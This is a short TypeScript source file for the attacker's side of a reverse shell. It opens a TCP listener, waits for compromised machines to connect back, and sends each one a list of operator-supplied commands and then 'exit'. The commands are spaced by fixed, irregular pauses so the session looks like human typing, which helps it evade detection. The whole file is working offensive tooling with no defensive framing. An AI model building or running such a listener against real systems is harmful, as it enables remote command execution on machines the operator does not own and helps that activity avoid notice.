// The attacker's end of a reverse shell: waits for call-backs and types commands with human pauses.
// usage: shell-listener.ts PORT COMMAND...   Each connection gets the commands, then `exit`.
import { createServer } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';

const [port = '3000', ...commands] = process.argv.slice(2);

/** Pauses before the commands in seconds: irregular as typing is, but the same in every run. */
const pauses = [1.9, 0.8, 3.4, 1.1, 5.2, 0.9, 2.3, 1.4, 4.1];

createServer(async (socket) => {
  socket.on('error', () => {});
  socket.on('data', () => {});
  for (const [i, command] of [...commands, 'exit'].entries()) {
    await pause((pauses[i % pauses.length] ?? 1) * 1000);
    if (socket.destroyed) return;
    socket.write(`${command}\n`);
  }
}).listen(Number(port));
